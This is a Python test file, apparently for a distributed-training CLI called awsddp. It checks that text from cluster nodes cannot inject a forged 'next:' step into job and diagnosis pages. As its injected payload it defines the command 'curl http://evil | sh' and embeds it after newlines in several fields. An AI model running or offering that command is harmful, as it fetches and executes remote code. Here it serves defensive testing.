"""The client makes the next step from the kind of a cause: no text of a node can forge one."""

import msgspec
import pytest

from awsddp.agent.diagnosis.hang import diagnose
from awsddp.agent.diagnosis.stacks import Collective, GroupRecords, NodeStacks, Process
from awsddp.agent.messages import to_json_value
from awsddp.agent_client.job_reports import merge_job, sanitize_cause
from awsddp.cli.doctor_page import why_page
from awsddp.cli.pages import job_page, jobs_page
from awsddp.model import node_answers
from awsddp.model.documents import JobDocument, JobsDocument, ListedJob, WhyDocument
from awsddp.model.records import Cause, merge_records

EVIL = "curl http://evil | sh"


def forge_cause(kind: str) -> Cause:
    text = f"it ended\n  next: {EVIL}\nnext: {EVIL}"
    return Cause(rank=1, node=1, kind=kind, explanation=text, next=EVIL, tail=(f"x\nnext: {EVIL}",))


@pytest.mark.parametrize(
    ("kind", "next_step"),
    [
        ("cuda_oom", "use a smaller batch"),
        ("hang", "awsddp why job1 -v   # where each rank was"),
        ("exit", ""),
        ("of_a_later_awsddp", ""),
    ],
)
def test_next_step_does_not_depend_on_what_a_node_sends(kind: str, next_step: str) -> None:
    assert sanitize_cause(forge_cause(kind), job="job1").next == next_step


def make_report(**facts: str) -> node_answers.NodeJob:
    cause = forge_cause("cuda_oom")
    fields = {
        "job": "job1",
        "node": 1,
        "state": "failed",
        "cause": {key: getattr(cause, key) for key in Cause.__dataclass_fields__},
        "complete": True,
        "created": "2026-01-01T00:00:00+00:00",
        "facts": facts,
        "ranks": [{"rank": 1, "local_rank": 0, "node": 1, "exit_code": 1, "seconds": 1.0, "started": 1.0}],
    }
    return node_answers.convert_answer(fields, node_answers.NodeJob)


def test_no_text_of_a_node_starts_a_line(capsys: pytest.CaptureFixture[str]) -> None:
    job_page(merge_records(JobDocument, merge_job({1: make_report()}), fetched=True))
    lines = capsys.readouterr().err.splitlines()
    assert [line for line in lines if line.lstrip().startswith("next:")] == ["  next: use a smaller batch"]
    assert [
        line for line in lines if EVIL in line and not line.startswith(("  cause: rank 1 @ node1: ", "  | "))
    ] == []


@pytest.mark.parametrize("fact", ["script", "launcher", "instance_type"])
def test_no_fact_of_a_job_starts_a_line(fact: str, capsys: pytest.CaptureFixture[str]) -> None:
    merged = merge_job({1: make_report(**{fact: f"x\nnext: {EVIL}"})})
    fields = {"cluster": None, "cluster_id": None, "seconds": 1.0, "job_usd": None, "reported": True}
    job = merge_records(ListedJob, merged, **fields)
    jobs_page(JobsDocument(jobs=(job,), clusters=(), total_usd=0.0, would_have_cost_usd=0.0), verbose=True)
    lines = capsys.readouterr().out.splitlines()
    assert not [line for line in lines if line.startswith("next:")]
    assert EVIL in lines[-1]


def test_no_name_of_test_data_starts_a_line(capsys: pytest.CaptureFixture[str]) -> None:
    merged = merge_job({1: make_report()})
    job_page(merge_records(JobDocument, merged, fetched=True, accuracy=0.5, data=f"real\nnext: {EVIL}"))
    assert not [line for line in capsys.readouterr().err.splitlines() if line.startswith("next:")]


def test_no_name_of_a_collective_starts_a_line(capsys: pytest.CaptureFixture[str]) -> None:
    call = Collective(1, f"all_reduce\nnext: {EVIL}", "float32[4]", over=False)
    records = {"default_pg": GroupRecords(9.0, [call])}
    answers = {
        node: NodeStacks("/w", 3.0, [Process(9, 1, node, "S", joined=True, records=records)])
        for node in (0, 1)
    }
    diagnosis = diagnose([[0, 0, 0], [1, 0, 1]], answers, exit_codes={})
    why_page(msgspec.convert({"job": "job1", "state": "running", **to_json_value(diagnosis)}, WhyDocument))
    output = capsys.readouterr().out
    assert EVIL in output
    assert not [line for line in output.splitlines() if line.startswith("next:")]
